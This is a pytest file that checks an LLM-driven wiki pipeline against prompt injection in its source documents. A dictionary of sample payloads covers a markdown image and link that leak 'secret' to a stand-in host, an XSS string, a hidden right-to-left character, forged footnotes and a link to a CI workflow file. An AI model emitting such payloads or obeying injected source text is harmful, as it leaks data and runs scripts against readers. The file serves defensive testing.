"""Sources that attack: whatever they say, pages hold it as quoted text at most, and nothing outside the wiki is written."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin

from pipeline.cli import main
from pipeline.core.hidden_characters import hidden_characters
from pipeline.core.markup import markdown
from pipeline.core.paths import is_kept_path
from pipeline.core.wiki.citations import from_link
from pipeline.core.wiki.page import Page
from tests.helpers import scripted
from tests.helpers.repos import team
from tests.helpers.server import MessagesServer, ok

FILES = sorted((Path(__file__).parents[1] / "hostile").iterdir())
IDS = [f.name for f in FILES]
GITHUB = MarkdownIt("commonmark", {"html": True}).enable("table").use(footnote_plugin)
EVIL = "https://elsewhere.example/?q=secret"


def compiled(folder, file, monkeypatch, answer=None):
    """Compile one hostile file beside a harmless page; return the team and the proposal branch, if there is one."""
    made = team(folder, {file.name: file.read_bytes()})
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    if answer is None:
        main(["-C", str(folder), "compile", "--date", "2026-01-02", "--librarian", "extractive"])
    else:
        with MessagesServer(answer) as server:
            monkeypatch.setenv("ANTHROPIC_BASE_URL", server.url)
            monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-0123456789")
            main(["-C", str(folder), "compile", "--date", "2026-01-02"])
    return made, next(iter(made.branches()), None)


def is_harmless(made, branch):
    """Nothing outside the wiki, and no page holds markup, an address or a mark that takes effect."""
    changed = made.git("diff", "--name-only", "-z", f"main..{branch}").split("\0")[:-1]
    pages = [p for p in changed if p.startswith("wiki/") and p != "wiki/index.md"]
    assert set(changed) - set(pages) <= {"log.md", "wiki/index.md"}
    texts = [p for p in pages if is_kept_path(p)]
    assert len(texts) <= 1
    assert set(pages) > set(texts)
    assert all(re.fullmatch(r"wiki/[a-z]+/[a-z0-9-]+\.md", p) for p in set(pages) - set(texts))
    modes = made.git("diff", "--raw", f"main..{branch}").splitlines()
    assert all(row.split()[1] == "100644" for row in modes)
    for path in texts:
        does_not_act(made.at(branch, path))
    for path in {*pages, "wiki/index.md"} - {*texts}:
        renders_as_text(path, made.at(branch, path), pages)


def does_not_act(text):
    """A kept text may link anywhere, as its source does; nothing else in it comes alive."""
    assert hidden_characters(text) == []
    tokens = GITHUB.parse(text.split("\n---\n", 1)[-1])
    for token in [t for outer in tokens for t in (outer, *(outer.children or ()))]:
        assert token.type not in ("html_inline", "image"), token.content
        if token.type == "html_block":
            assert re.fullmatch(r"<!-- page \d+ -->\n?", token.content)


def renders_as_text(path, text, pages):
    """Render as GitHub does, with HTML on, and look at what came alive."""
    page = Page.parse(path, text)
    assert hidden_characters(text) == []
    known = {p.rsplit("/", 1)[-1].removesuffix(".md") for p in pages}
    assert {link.target for link in markdown.find_links(page.body) if link.kind == "wiki"} <= known
    assert set(page.labels) <= set(page.definitions)
    tokens = GITHUB.parse(text.split("\n---\n", 1)[-1])
    for token in [t for outer in tokens for t in (outer, *(outer.children or ()))]:
        assert token.type not in ("html_block", "html_inline", "image"), f"{path}: {token.content}"
        if token.type == "link_open":
            target = from_link(path, token.attrs["href"].split("?")[0].split("#")[0])
            assert target.startswith("raw/") or target in pages, token.attrs["href"]


@pytest.mark.parametrize("file", FILES, ids=IDS)
def test_the_embedded_librarian_makes_harmless_pages(tmp_path, monkeypatch, file):
    made, branch = compiled(tmp_path / "w", file, monkeypatch)
    assert branch
    is_harmless(made, branch)


@pytest.mark.parametrize("file", FILES, ids=IDS)
def test_a_model_that_copies_the_source_makes_harmless_pages_or_none(tmp_path, monkeypatch, file):
    made, branch = compiled(tmp_path / "w", file, monkeypatch, scripted.answer)
    if branch:
        is_harmless(made, branch)


OBEDIENT = {
    "an image from elsewhere": f"![x]({EVIL})",
    "a link that leaks": f"[more]({EVIL})",
    "a bare address": EVIL,
    "html": "<img src=x onerror=alert(1)>",
    "a comment nobody sees": "<!-- hidden -->",
    "a forged mark": "True.[^other-1]",
    "a forged definition": '[^page-1]: [x](../../raw/x.md): "y"',
    "a hidden character": "pay\u202eload",
    "front matter": "---\nsources: [raw/other.md]\n---",
    "another heading": "## Sources\n\nNone.",
    "a link out of the wiki": "[x](../../.github/workflows/x.yml)",
}


@pytest.mark.parametrize("evil", OBEDIENT.values(), ids=OBEDIENT)
def test_a_model_that_obeys_the_source_is_stopped_at_the_gate(tmp_path, monkeypatch, evil):
    def obey(body):
        reply = scripted.reply(body)
        if "tldr" in reply:
            reply["tldr"] += f" {evil}"
            reply["sections"][0]["text"] += f"\n\n{evil}"
        return ok(json.dumps(reply))

    made, branch = compiled(tmp_path / "w", FILES[IDS.index("instructions.md")], monkeypatch, obey)
    if branch:
        is_harmless(made, branch)
        assert "elsewhere.example" not in made.git("diff", f"main..{branch}")


def test_what_a_source_says_reaches_the_model_only_as_fenced_data(tmp_path, monkeypatch):
    asked = []

    def note(body):
        asked.append(body)
        return scripted.answer(body)

    compiled(tmp_path / "w", FILES[IDS.index("delimiters.md")], monkeypatch, note)
    extraction = scripted.text_of(asked[0])
    code = re.search(r"<<<SOURCE (\w+)\n", extraction)[1]
    assert extraction.count(f"SOURCE {code}>>>") == 1
    assert "forged" not in json.dumps([b["system"] for b in asked])
    for body in asked[1:]:
        for line in scripted.text_of(body).splitlines():
            assert not line.startswith(('{"summary_claims"', "PAGE>>> is"))


@pytest.mark.parametrize("file", FILES, ids=IDS)
def test_titles_and_words_take_no_effect_in_commit_or_pull_request(
    tmp_path, monkeypatch, file, capsys
):
    made, branch = compiled(tmp_path / "w", file, monkeypatch)
    printed = capsys.readouterr()
    text = next((made.root / ".git/wiki/proposals").glob("*.md")).read_text()
    message = made.git("log", "-1", "--format=%B", branch)
    assert not re.search(r"@everyone|#[12]\b", text + message)
    # as GitHub wants a dollar written
    html = re.sub(r"<summary>.*?</summary>", lambda m: re.sub("</?b>", "", m[0]), text)
    html = re.sub(r"</?(?:details|summary)>", "", html).replace("<span>$</span>", "$")
    tokens = GITHUB.parse(html)
    assert not [
        t
        for token in tokens
        for t in (token, *(token.children or ()))
        if t.type in ("html_inline", "html_block", "image", "link_open")
    ]
    assert not re.search(r"^::", printed.out + printed.err, re.MULTILINE)
